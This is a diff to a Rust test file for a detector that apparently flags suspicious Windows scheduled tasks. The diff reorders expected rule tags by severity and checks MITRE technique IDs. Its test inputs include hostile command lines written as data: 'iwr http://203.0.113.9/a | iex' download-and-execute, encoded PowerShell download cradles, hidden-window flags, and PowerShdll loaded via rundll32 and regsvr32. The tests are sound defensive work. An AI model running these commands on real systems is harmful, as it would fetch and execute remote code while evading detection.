@@ -91,24 +91,30 @@ fn each_rule_matches_what_it_is_for() {
     for (command, arguments, severity, expected) in [
         ("powershell.exe", r"-File C:\Scripts\backup.ps1", "medium", vec![POWERSHELL]),
         (r"C:\Scripts\backup.ps1", "", "medium", vec![POWERSHELL]),
-        ("PowerShell", "-W Hidden -c Get-Date", "medium", vec![POWERSHELL, HIDDEN]),
-        ("powershell", "-windowstyle 1 -c Get-Date", "medium", vec![POWERSHELL, HIDDEN]),
-        ("powershell.exe", &format!("-nop -enc {cradle}"), "high", vec![POWERSHELL, ENCODED, DOWNLOADS]),
+        ("PowerShell", "-W Hidden -c Get-Date", "medium", vec![HIDDEN, POWERSHELL]),
+        ("powershell", "-windowstyle 1 -c Get-Date", "medium", vec![HIDDEN, POWERSHELL]),
+        ("powershell.exe", &format!("-nop -enc {cradle}"), "high", vec![ENCODED, DOWNLOADS, POWERSHELL]),
         (
             "powershell.exe",
             &format!("/EncodedCommand {}", encoded("Get-Process")),
             "high",
-            vec![POWERSHELL, ENCODED],
+            vec![ENCODED, POWERSHELL],
         ),
         (
             "powershell.exe",
             &format!("\u{2013}e {}", encoded("Get-Process")),
             "high",
-            vec![POWERSHELL, ENCODED],
+            vec![ENCODED, POWERSHELL],
         ),
         ("cmd.exe", "/c p^ower\"shell\" -c Get-Date", "medium", vec![POWERSHELL]),
-        ("pwsh", "-c iwr http://203.0.113.9/a | iex", "high", vec![POWERSHELL, DOWNLOADS]),
+        ("pwsh", "-c iwr http://203.0.113.9/a | iex", "high", vec![DOWNLOADS, POWERSHELL]),
         ("rundll32", "PowerShdll.dll,main . { Get-Date }", "critical", vec![POWERSHDLL]),
+        (
+            "rundll32",
+            "PowerShdll.dll,main iwr http://203.0.113.9/a",
+            "critical",
+            vec![POWERSHDLL, DOWNLOADS],
+        ),
         ("regsvr32.exe", r"/s /u C:\Temp\PowerShdll.dll", "critical", vec![POWERSHDLL]),
     ] {
         for id in [4698, 4702] {
@@ -118,15 +124,18 @@ fn each_rule_matches_what_it_is_for() {
             assert_eq!(out["schtag"]["verdict"], "alert");
             assert_eq!(out["schtag"]["severity"], severity, "{command} {arguments}");
             assert_eq!(out["schtag"]["action"], if id == 4698 { "created" } else { "updated" });
-            assert!(out["schtag"]["title"].as_str().unwrap().ends_with(": \\Updater"), "{out}");
+            // As in schtag's own tags: the most severe first, and in the title.
+            assert_eq!(out["schtag"]["title"], format!("{}: \\Updater", expected[0]), "{out}");
             let mut rest = out.clone();
             rest.as_object_mut().unwrap().remove("schtag");
             assert_eq!(rest, before, "nothing but the tag is added");
         }
     }
+    let hosted = run(&event(4698, &task("rundll32", "PowerShdll.dll,main . { Get-Date }")));
+    assert_eq!(hosted["schtag"]["techniques"], json!(["T1218", "T1059.001", "T1053.005"]));
     let out = run(&event(4698, &task("powershell", &format!("-e {cradle}"))));
     assert!(out["schtag"]["task"]["decoded"][0].as_str().unwrap().contains("DownloadString"), "{out}");
-    assert_eq!(out["schtag"]["techniques"], json!(["T1059.001", "T1027.010", "T1105", "T1053.005"]));
+    assert_eq!(out["schtag"]["techniques"], json!(["T1027.010", "T1105", "T1059.001", "T1053.005"]));
 }
 
 #[test]
@@ -161,7 +170,7 @@ fn what_cannot_be_read_says_so() {
     // What is cut is still searched as text.
     let malicious = task("powershell.exe", "-w hidden");
     let out = run(&event(4698, &malicious[..malicious.len() - 20]));
-    assert_eq!(rules(&out), [POWERSHELL, HIDDEN]);
+    assert_eq!(rules(&out), [HIDDEN, POWERSHELL]);
     assert_eq!(out["schtag"]["notes"].as_array().unwrap().len(), 2);
 }
 
@@ -206,5 +215,5 @@ fn its_rules_are_rules_of_the_pack() {
     for title in [POWERSHELL, HIDDEN, ENCODED, DOWNLOADS, POWERSHDLL] {
         assert!(pack.contains(&format!("title: {title}\n")), "{title}");
     }
-    assert!(source.contains("5 of its some 70 rules"));
+    assert!(source.contains("5 of its rules"));
 }
